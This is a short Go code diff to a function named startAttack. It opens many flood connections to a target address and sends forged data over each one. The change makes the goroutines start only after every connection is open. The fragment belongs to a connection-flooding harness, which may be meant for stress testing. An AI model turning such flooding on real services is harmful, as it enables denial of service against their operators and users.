@@ -106,12 +106,16 @@ type attack struct {
 
 func startAttack(address string, forged [][]byte) (*attack, error) {
 	a := &attack{}
-	for i := range floodConnections {
+	var clients []*client
+	for range floodConnections {
 		c, err := dial(address)
 		if err != nil {
 			return nil, errors.Join(err, a.stop())
 		}
-		a.conns = append(a.conns, c.conn)
+		a.conns, clients = append(a.conns, c.conn), append(clients, c)
+	}
+	// Not before all are connected: on a small machine the first would starve the rest.
+	for i, c := range clients {
 		a.group.Go(func() { a.send(c.conn, forged, i) })
 		a.group.Go(func() { a.read(c) })
 	}
